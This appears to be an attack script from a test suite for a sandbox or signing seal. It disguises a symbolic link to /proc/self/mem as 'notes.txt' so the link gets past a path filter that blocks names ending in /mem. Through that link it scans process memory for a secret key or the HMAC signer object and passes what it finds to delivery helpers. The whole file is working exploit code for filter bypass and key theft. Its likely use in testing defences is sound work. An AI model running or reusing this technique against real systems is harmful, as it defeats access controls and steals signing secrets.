# @include _visible_only.py
# @include _deliver.py
# @include _memscan.py
# Attack: the seal refuses to open a path that ends in /mem, but not a symbolic
# link to /proc/self/mem with another name. Through it: the key, if the freed
# bundle left it in the heap; else the seal's keyed HMAC object itself (found
# by its type pointer, and made reachable by writing its address into a list).
import os
import tempfile

try:
    _link = os.path.join(tempfile.mkdtemp(), "notes.txt")
    os.symlink("/proc/self/mem", _link)
    _key = scan_for_key(_link)
    _signer = None if _key is not None else grab_signer(_link)
except Exception as exc:  # noqa: BLE001
    print("attack failed:", type(exc).__name__)
    _key = _signer = None
print("key found:", _key is not None, "signer found:", _signer is not None)
if _key is not None:
    deliver_key(_key)
elif _signer is not None:
    deliver_sign(_signer)
